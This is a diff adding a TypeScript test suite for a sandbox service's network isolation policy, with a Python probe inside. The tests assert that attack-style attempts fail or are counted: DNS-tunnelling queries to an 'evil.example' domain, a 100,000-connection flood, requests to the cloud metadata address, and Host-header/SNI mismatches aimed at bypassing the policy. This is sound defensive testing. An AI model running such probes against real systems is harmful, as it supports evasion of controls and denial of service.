@@ -1,0 +1,463 @@
+import { after, before, describe, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { execFileSync, spawn, type ChildProcess } from 'node:child_process';
+import { createServer as createHttpServer, request, type Server } from 'node:http';
+import { createServer as createHttpsServer } from 'node:https';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { randomInt } from 'node:crypto';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Sandbox } from '@warren/sdk';
+import { errorCode, http, startTestWarren, type TestWarren } from './harness.js';
+
+/**
+ * A probe run inside sandboxes (debian-python): each command prints one line that the test
+ * asserts on. Timeouts are short: a dropped packet shows as "timeout".
+ */
+const PROBE = String.raw`
+import socket, ssl, sys, time, struct, random
+def err(e):
+    if isinstance(e, socket.timeout): return 'timeout'
+    if isinstance(e, socket.gaierror): return 'nxdomain'
+    return type(e).__name__ + ':' + str(getattr(e, 'errno', '') or '')
+cmd, args = sys.argv[1], sys.argv[2:]
+try:
+    if cmd == 'resolve':
+        print(socket.gethostbyname(args[0]))
+    elif cmd == 'http':
+        host, port, hosthdr = args[0], int(args[1]), args[2]
+        s = socket.create_connection((host, port), timeout=3)
+        s.sendall(('GET /simple/ HTTP/1.1\r\nHost: %s\r\nConnection: keep-alive\r\n\r\n' % hosthdr).encode())
+        data = b''
+        while True:
+            d = s.recv(65536)
+            if not d: break
+            data += d
+        print(data.split(b'\r\n')[0].decode() + ' | ' + data.split(b'\r\n\r\n', 1)[-1].decode().strip())
+    elif cmd == 'tls':
+        host, port, sni = args[0], int(args[1]), args[2]
+        ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+        s = ctx.wrap_socket(socket.create_connection((host, port), timeout=3), server_hostname=sni)
+        s.sendall(('GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % sni).encode())
+        data = b''
+        while True:
+            d = s.recv(65536)
+            if not d: break
+            data += d
+        print(data.split(b'\r\n\r\n', 1)[-1].decode().strip())
+    elif cmd == 'connect':
+        s = socket.create_connection((args[0], int(args[1])), timeout=float(args[2]) if len(args) > 2 else 1.5)
+        print('connected')
+    elif cmd == 'connect6':
+        s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM); s.settimeout(1.5)
+        s.connect((args[0], int(args[1]), 0, socket.if_nametoindex('eth0') if args[0].startswith('fe80') else 0))
+        print('connected')
+    elif cmd == 'flood':
+        n = int(args[2]); t = time.time()
+        for i in range(n):
+            s = socket.socket(); s.setblocking(False)
+            s.connect_ex((args[0], int(args[1])))
+            s.close()
+        print('sent %d in %.1fs' % (n, time.time() - t))
+    elif cmd == 'hold':
+        n = int(args[2]); socks = []
+        for i in range(n):
+            s = socket.socket(); s.settimeout(2)
+            try:
+                s.connect((args[0], int(args[1]))); socks.append(s)
+            except Exception: pass
+        time.sleep(0.5)
+        alive = 0
+        for s in socks:
+            s.setblocking(False)
+            try:
+                d = s.recv(1)
+                if d: alive += 1
+            except BlockingIOError: alive += 1
+            except Exception: pass
+        print('open %d of %d' % (alive, n))
+    elif cmd == 'dns':
+        server, name, qtype = args[0], args[1], int(args[2]) if len(args) > 2 else 1
+        q = struct.pack('>HHHHHH', random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
+        q += b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>HH', qtype, 1)
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+        s.sendto(q, (server, 53))
+        r = s.recv(512)
+        print('rcode=%d answers=%d' % (r[3] & 15, struct.unpack('>H', r[6:8])[0]))
+    elif cmd == 'serve':
+        port = int(args[0])
+        srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        srv.bind(('0.0.0.0', port)); srv.listen(16)
+        while True:
+            c, _ = srv.accept()
+            head = b''
+            while b'\r\n\r\n' not in head:
+                d = c.recv(4096)
+                if not d: break
+                head += d
+            text = head.decode('latin1')
+            if 'upgrade: ' in text.lower():
+                c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: echo\r\nConnection: Upgrade\r\n\r\n')
+                while True:
+                    d = c.recv(4096)
+                    if not d: break
+                    c.sendall(d)
+            else:
+                body = ('path=%s auth=%s' % (text.split(' ')[1], 'authorization:' in text.lower())).encode()
+                c.sendall(b'HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % len(body) + body)
+            c.close()
+except Exception as e:
+    print(err(e))
+`;
+
+async function probe(sb: Sandbox, ...args: string[]): Promise<string> {
+  const r = await sb.exec(['python3', '/tmp/probe.py', ...args], { timeoutMs: 60_000 });
+  return r.stdout.trim();
+}
+
+/** Creates a sandbox with the probe in it; the test removes it. */
+async function box(t: TestWarren, network?: unknown, client = t.client): Promise<Sandbox> {
+  return client.sandboxes.create({
+    image: 'debian-python:latest',
+    network: network as never,
+    files: [{ path: '/tmp/probe.py', content: Buffer.from(PROBE).toString('base64') }],
+  });
+}
+
+describe('sandbox network policy', () => {
+  let t: TestWarren;
+  const web = `127.${randomInt(100, 200)}.${randomInt(1, 250)}.1`;
+  const servers: Server[] = [];
+  let certDir = '';
+  // A network namespace of the test's own with an HTTP server: the target of CIDR rules.
+  const ns = `wtest${randomInt(1000, 9999)}`;
+  const nsIf = `wt${randomInt(10000, 99999)}`;
+  const sub = randomInt(1, 250);
+  const cidrHost = `10.251.${sub}.2`;
+  let nsServer: ChildProcess | null = null;
+
+  before(async () => {
+    certDir = await mkdtemp(join(tmpdir(), 'warren-cert-'));
+    execFileSync(
+      'openssl',
+      [
+        'req',
+        '-x509',
+        '-newkey',
+        'rsa:2048',
+        '-nodes',
+        '-days',
+        '1',
+        '-subj',
+        '/CN=test',
+        '-keyout',
+        join(certDir, 'key.pem'),
+        '-out',
+        join(certDir, 'cert.pem'),
+      ],
+      {
+        stdio: 'ignore',
+      },
+    );
+    const [key, cert] = await Promise.all([readFile(join(certDir, 'key.pem')), readFile(join(certDir, 'cert.pem'))]);
+    const plain = createHttpServer((req, res) => res.end(`http ${req.headers.host ?? '-'} ${req.headers.connection ?? '-'}\n`));
+    const tls = createHttpsServer({ key, cert }, (req, res) => {
+      const name = (req.socket as unknown as { servername?: string }).servername ?? '-';
+      res.end(`https sni=${name} host=${req.headers.host ?? '-'}\n`);
+    });
+    for (const [s, port] of [
+      [plain, 80],
+      [tls, 443],
+    ] as const) {
+      await new Promise<void>((resolve, reject) => {
+        s.once('error', reject);
+        s.listen(port, web, () => resolve());
+      });
+      servers.push(s);
+    }
+    execFileSync('sh', [
+      '-c',
+      `ip netns add ${ns} && ip link add ${nsIf} type veth peer name eth0 netns ${ns} && ip addr add 10.251.${sub}.1/30 dev ${nsIf} && ip link set ${nsIf} up && ` +
+        `ip -n ${ns} addr add ${cidrHost}/30 dev eth0 && ip -n ${ns} link set eth0 up && ip -n ${ns} link set lo up && ip -n ${ns} route add default via 10.251.${sub}.1`,
+    ]);
+    nsServer = spawn(
+      'ip',
+      [
+        'netns',
+        'exec',
+        ns,
+        process.execPath,
+        '-e',
+        "require('http').createServer((q,r)=>{r.setHeader('connection','close');r.end('cidr '+q.socket.remoteAddress+'\\n')}).listen(8000)",
+      ],
+      { stdio: 'ignore' },
+    );
+    const hosts = { 'pypi.org': web, 'files.pythonhosted.org': web, 'registry.npmjs.org': web };
+    t = await startTestWarren({ images: ['busybox:latest', 'debian-python:latest'], network: { hosts, poolSize: 4, maxConnectionsPerSandbox: 32 } });
+  });
+
+  after(async () => {
+    await t?.close();
+    nsServer?.kill('SIGKILL');
+    try {
+      execFileSync('sh', ['-c', `ip link del ${nsIf}; ip netns del ${ns}`], { stdio: 'ignore' });
+    } catch {
+      /* gone */
+    }
+    for (const s of servers) s.close();
+    await rm(certDir, { recursive: true, force: true });
+  });
+
+  test('egress deny with an allow list: those names over HTTP and HTTPS, nothing else; usage counts both', async () => {
+    const sb = await box(t, { egress: 'deny', allow: ['pypi.org', '*.pythonhosted.org'] });
+    try {
+      assert.equal(await probe(sb, 'http', 'pypi.org', '80', 'pypi.org'), 'HTTP/1.1 200 OK | http pypi.org close');
+      assert.equal(
+        await probe(sb, 'tls', 'files.pythonhosted.org', '443', 'files.pythonhosted.org'),
+        'https sni=files.pythonhosted.org host=files.pythonhosted.org',
+      );
+      // DNS answers allowed names only.
+      assert.equal(await probe(sb, 'resolve', 'registry.npmjs.org'), 'nxdomain');
+      assert.equal(await probe(sb, 'resolve', 'pythonhosted.org'), 'nxdomain');
+      // Aiming at an allowed name's address with another name: the name decides, not the address.
+      const gw = await probe(sb, 'resolve', 'pypi.org');
+      assert.match(await probe(sb, 'http', gw, '80', 'registry.npmjs.org'), /^HTTP\/1.1 403 Forbidden \| registry.npmjs.org is not allowed/);
+      assert.match(await probe(sb, 'tls', gw, '443', 'registry.npmjs.org'), /^(SSLEOFError|ConnectionResetError|SSLZeroReturnError|OSError)/);
+      assert.match(await probe(sb, 'http', gw, '80', gw), /^HTTP\/1.1 403 Forbidden/);
+      const info = await sb.refresh();
+      assert.deepEqual([info.network.egress, info.network.allow], ['deny', ['pypi.org', '*.pythonhosted.org']]);
+      assert.equal(info.network.usage.allowed['pypi.org'], 1);
+      assert.equal(info.network.usage.allowed['files.pythonhosted.org'], 1);
+      assert.ok((info.network.usage.denied['registry.npmjs.org'] ?? 0) >= 3, JSON.stringify(info.network.usage));
+      assert.ok(info.network.usage.bytesIn > 0 && info.network.usage.bytesOut > 0);
+      const metrics = await (await fetch(`${t.url}/metrics`, { headers: { authorization: `Bearer ${t.key}` } })).text();
+      assert.match(metrics, new RegExp(`warren_sandbox_network_connections_allowed\\{sandbox="${sb.id}"\\} 2`));
+    } finally {
+      await sb.delete();
+    }
+  });
+
+  test('egress allow with a deny list reaches everything but what it names; no rules leaves nothing', async () => {
+    const open = await box(t, { egress: 'allow', deny: ['registry.npmjs.org'] });
+    const closed = await box(t, { egress: 'deny' });
+    try {
+      assert.equal(await probe(open, 'http', 'pypi.org', '80', 'pypi.org'), 'HTTP/1.1 200 OK | http pypi.org close');
+      assert.equal(await probe(open, 'resolve', 'registry.npmjs.org'), 'nxdomain');
+      assert.equal(await probe(open, 'tls', await probe(open, 'resolve', 'pypi.org'), '443', 'registry.npmjs.org').then((s) => s.startsWith('https')), false);
+      assert.equal(await probe(closed, 'resolve', 'pypi.org'), 'nxdomain');
+      assert.match(
+        await probe(
+          closed,
+          'http',
+          (await closed.refresh()).network.address!.replace(/\d+$/, (n) => String(Number(n) - 1)),
+          '80',
+          'pypi.org',
+        ),
+        /403 Forbidden/,
+      );
+      assert.equal(await probe(closed, 'connect', cidrHost, '8000'), 'timeout');
+    } finally {
+      await Promise.all([open.delete(), closed.delete()]);
+    }
+  });
+
+  test('PATCH replaces the rules of a running sandbox; new connections follow at once', async () => {
+    const sb = await box(t, { egress: 'deny' });
+    try {
+      assert.equal(await probe(sb, 'resolve', 'pypi.org'), 'nxdomain');
+      const info = await sb.setNetwork({ egress: 'deny', allow: ['pypi.org', `${cidrHost}/32`] });
+      assert.deepEqual(info.network.allow, ['pypi.org', `${cidrHost}/32`]);
+      assert.equal(await probe(sb, 'http', 'pypi.org', '80', 'pypi.org'), 'HTTP/1.1 200 OK | http pypi.org close');
+      assert.equal(await probe(sb, 'connect', cidrHost, '8000'), 'connected');
+      // Bad rules change nothing.
+      const bad = await http(t, 'PATCH', `/v1/sandboxes/${sb.id}/network`, { egress: 'deny', allow: ['*.com'] });
+      assert.equal(errorCode(bad), 'invalid_argument');
+      assert.equal(await probe(sb, 'resolve', 'pypi.org').then((a) => a !== 'nxdomain'), true);
+      await http(t, 'PATCH', `/v1/sandboxes/${sb.id}/network`, { egress: 'deny', allow: [] });
+      assert.equal(await probe(sb, 'resolve', 'pypi.org'), 'nxdomain');
+      assert.equal(await probe(sb, 'connect', cidrHost, '8000'), 'timeout');
+    } finally {
+      await sb.delete();
+    }
+  });
+
+  test('CIDR rules: direct connections to what allow names, minus deny; other sandboxes stay out', async () => {
+    const a = await box(t, { egress: 'deny', allow: [`10.251.${sub}.0/30`] });
+    const b = await box(t, { egress: 'deny', allow: [`10.251.${sub}.0/30`], deny: [`${cidrHost}/32`] });
+    const c = await box(t, { egress: 'allow' });
+    try {
+      assert.match(await probe(a, 'http', cidrHost, '8000', 'x'), /^HTTP\/1.1 200 OK \| cidr /);
+      assert.equal(await probe(b, 'connect', cidrHost, '8000'), 'timeout');
+      // egress allow opens names, not addresses.
+      assert.equal(await probe(c, 'connect', cidrHost, '8000'), 'timeout');
+    } finally {
+      await Promise.all([a.delete(), b.delete(), c.delete()]);
+    }
+  });
+
+  test('nothing of the host, other sandboxes, link-local or IPv6 is reachable', async () => {
+    const a = await box(t, { egress: 'allow', allow: ['0.0.0.0/0'] });
+    const b = await box(t, { egress: 'allow' });
+    try {
+      const api = new URL(t.url).port;
+      const aInfo = await a.refresh();
+      const bAddr = (await b.refresh()).network.address!;
+      const gw = await probe(a, 'resolve', 'pypi.org');
+      const hostIps = execFileSync('sh', ['-c', "ip -4 -o addr show scope global | awk '{print $4}' | cut -d/ -f1"])
+        .toString()
+        .trim()
+        .split('\n')
+        .filter(Boolean);
+      assert.equal(await probe(a, 'connect', gw, api), 'timeout', 'the API through the link');
+      for (const ip of hostIps.filter((ip) => !/^10\.(251|20[0-7])\./.test(ip)))
+        assert.equal(await probe(a, 'connect', ip, api), 'timeout', `the API at ${ip}`);
+      assert.equal(await probe(a, 'connect', '127.0.0.1', api), 'ConnectionRefusedError:111', "loopback is the sandbox's own");
+      // Another sandbox, even with a listener and a rule naming every address.
+      void b.exec(['python3', '/tmp/probe.py', 'serve', '8080'], { timeoutMs: 60_000 }).catch(() => undefined);
+      await new Promise((r) => setTimeout(r, 500));
+      assert.equal(await probe(a, 'connect', bAddr, '8080'), 'timeout', 'another sandbox');
+      assert.equal(await probe(a, 'connect', '169.254.169.254', '8080'), 'timeout', 'link-local');
+      // Port 80 of any address goes to the proxy (which refuses addresses), unless a CIDR rule
+      // names it: then it is routed, and link-local is dropped.
+      assert.equal(await probe(a, 'http', '169.254.169.254', '80', 'pypi.org'), 'timeout', 'metadata over HTTP, CIDR-allowed');
+      assert.match(await probe(b, 'http', '169.254.169.254', '80', '169.254.169.254'), /403 Forbidden/, 'metadata over HTTP');
+      assert.match(await probe(a, 'connect6', '::ffff:' + gw, api), /timeout|OSError|ConnectionRefused/, 'IPv4-mapped IPv6');
+      const v6 = (await a.exec(['sh', '-c', 'cat /proc/net/if_inet6 | grep -v " lo$" || true'])).stdout.trim();
+      assert.equal(v6, '', 'no IPv6 address on the link');
+      // Root in the sandbox cannot take another address on its link.
+      const r = await a.exec(['sh', '-c', `/.warren/busybox ip addr add ${bAddr}/31 dev eth0 2>&1`]);
+      assert.match(r.stdout, /not permitted/i);
+      assert.ok(aInfo.network.address);
+    } finally {
+      await Promise.all([a.delete(), b.delete()]);
+    }
+  });
+
+  test('DNS: queries to any server are answered here, never forwarded; odd queries fail cleanly', async () => {
+    const sb = await box(t, { egress: 'deny', allow: ['*.pythonhosted.org'] });
+    try {
+      assert.equal(await probe(sb, 'dns', '192.0.2.53', 'files.pythonhosted.org'), 'rcode=0 answers=1');
+      assert.equal(await probe(sb, 'dns', '8.8.8.8', 'registry.npmjs.org'), 'rcode=3 answers=0');
+      assert.equal(await probe(sb, 'dns', '8.8.8.8', 'files.pythonhosted.org', '16'), 'rcode=0 answers=0', 'TXT: no data');
+      // Tunnelling-style names: all refused and counted, at most 100 kept by name.
+      const r = await sb.exec([
+        'sh',
+        '-c',
+        'for i in $(seq 1 150); do python3 /tmp/probe.py dns 8.8.8.8 "c$i$(head -c 12 /dev/urandom | od -An -tx1 | tr -d " \\n").t.evil.example"; done | sort | uniq -c',
+      ]);
+      assert.match(r.stdout.trim(), /^150 rcode=3 answers=0$/);
+      const u = (await sb.refresh()).network.usage;
+      assert.ok(u.connectionsDenied >= 151, JSON.stringify(u.connectionsDenied));
+      assert.ok(Object.keys(u.denied).length <= 101);
+      assert.ok((u.denied['(other)'] ?? 0) >= 50);
+    } finally {
+      await sb.delete();
+    }
+  });
+
+  test('100,000 connection attempts are dropped and counted; the proxy holds a limit; others keep their network', async () => {
+    const noisy = await box(t, { egress: 'deny', allow: ['pypi.org'] });
+    const quiet = await box(t, { egress: 'deny', allow: ['pypi.org'] });
+    try {
+      const flood = probe(noisy, 'flood', cidrHost, '9', '100000');
+      assert.equal(await probe(quiet, 'http', 'pypi.org', '80', 'pypi.org'), 'HTTP/1.1 200 OK | http pypi.org close');
+      assert.match(await flood, /^sent 100000 /);
+      // 64 connections held open to the proxy: the node allows 32 per sandbox.
+      const held = await probe(noisy, 'hold', 'pypi.org', '80', '64');
+      const open = Number(/open (\d+) of 64/.exec(held)?.[1]);
+      assert.ok(open <= 32 && open >= 16, held);
+      assert.equal(await probe(quiet, 'http', 'pypi.org', '80', 'pypi.org'), 'HTTP/1.1 200 OK | http pypi.org close');
+      await new Promise((r) => setTimeout(r, 1100));
+      const u = (await noisy.refresh()).network.usage;
+      assert.ok((u.denied['(direct address)'] ?? 0) >= 100_000, JSON.stringify(u));
+    } finally {
+      await Promise.all([noisy.delete(), quiet.delete()]);
+    }
+  });
+
+  test('ports: HTTP and upgrades reach a port inside, with the owner key only, which is not passed on', async () => {
+    const sb = await box(t, { egress: 'deny' });
+    try {
+      void sb.exec(['python3', '/tmp/probe.py', 'serve', '8080'], { timeoutMs: 60_000 }).catch(() => undefined);
+      await new Promise((r) => setTimeout(r, 500));
+      const r = await http(t, 'GET', `/v1/sandboxes/${sb.id}/ports/8080/a/b?c=1`);
+      assert.equal(r.status, 200);
+      assert.equal(r.text, 'path=/a/b?c=1 auth=False');
+      assert.equal(errorCode(await http(t, 'GET', `/v1/sandboxes/${sb.id}/ports/8081/`)), 'unavailable');
+      assert.equal(errorCode(await http(t, 'GET', `/v1/sandboxes/${sb.id}/ports/70000/`)), 'invalid_argument');
+      const other = await http(t, 'POST', '/v1/keys', { tenant: 'someone-else' });
+      const otherKey = (other.json as { key: string }).key;
+      assert.equal(errorCode(await http(t, 'GET', `/v1/sandboxes/${sb.id}/ports/8080/`, undefined, { authorization: `Bearer ${otherKey}` })), 'not_found');
+      assert.equal((await fetch(`${t.url}/v1/sandboxes/${sb.id}/ports/8080/`)).status, 401);
+      // An upgrade: the echo server inside answers 101, then bytes go both ways.
+      const echoed = await new Promise<string>((resolve, reject) => {
+        const u = new URL(t.url);
+        const req = request({
+          host: u.hostname,
+          port: u.port,
+          path: `/v1/sandboxes/${sb.id}/ports/8080/ws`,
+          headers: { authorization: `Bearer ${t.key}`, connection: 'Upgrade', upgrade: 'echo' },
+        });
+        req.on('upgrade', (res, socket) => {
+          assert.equal(res.statusCode, 101);
+          socket.write('ping');
+          socket.once('data', (d: Buffer) => {
+            resolve(d.toString());
+            socket.destroy();
+          });
+        });
+        req.on('response', (res) => reject(new Error(`no upgrade: ${res.statusCode}`)));
+        req.on('error', reject);
+        req.end();
+      });
+      assert.equal(echoed, 'ping');
+    } finally {
+      await sb.delete();
+    }
+  });
+
+  test('bad rules are refused at create with the rule named; wide CIDRs need a key that may', async () => {
+    for (const rule of ['*', '*.com', 'foo..bar', 'pypi.org/x', '::/0', '10.0.0.1/8']) {
+      const r = await http(t, 'POST', '/v1/sandboxes', { image: 'busybox:latest', network: { egress: 'deny', allow: [rule] } });
+      assert.equal(errorCode(r), 'invalid_argument', rule);
+      assert.ok(r.text.includes(JSON.stringify(rule).slice(1, -1).slice(0, 6)), r.text);
+    }
+    const user = (await http(t, 'POST', '/v1/keys', { tenant: 'netuser' })).json as { key: string };
+    const wide = await http(
+      t,
+      'POST',
+      '/v1/sandboxes',
+      { image: 'busybox:latest', network: { egress: 'deny', allow: ['0.0.0.0/0'] } },
+      { authorization: `Bearer ${user.key}` },
+    );
+    assert.equal(errorCode(wide), 'permission_denied');
+    const narrow = await http(
+      t,
+      'POST',
+      '/v1/sandboxes',
+      { image: 'busybox:latest', network: { egress: 'deny', allow: ['10.9.0.0/16'] } },
+      { authorization: `Bearer ${user.key}` },
+    );
+    assert.equal(narrow.status, 201, narrow.text);
+    await http(t, 'DELETE', `/v1/sandboxes/${(narrow.json as { id: string }).id}`);
+    const list = await http(t, 'GET', '/v1/sandboxes?state=failed', undefined, { authorization: `Bearer ${user.key}` });
+    assert.deepEqual((list.json as { sandboxes: unknown[] }).sandboxes, [], 'refused creates leave no sandbox');
+  });
+});
+
+describe('a node without sandbox networking', () => {
+  test('gives loopback only and refuses rules that open anything', async () => {
+    const t = await startTestWarren({ network: false });
+    try {
+      const r = await http(t, 'POST', '/v1/sandboxes', { image: 'busybox:latest', network: { egress: 'deny', allow: ['pypi.org'] } });
+      assert.equal(errorCode(r), 'invalid_argument');
+      const sb = await t.client.sandboxes.create({ image: 'busybox:latest' });
+      const links = await sb.exec(['sh', '-c', 'ls /sys/class/net']);
+      assert.equal(links.stdout.trim(), 'lo');
+      assert.equal((await sb.refresh()).network.address, null);
+      assert.equal(errorCode(await http(t, 'PATCH', `/v1/sandboxes/${sb.id}/network`, { egress: 'allow' })), 'invalid_argument');
+    } finally {
+      await t.close();
+    }
+  });
+});
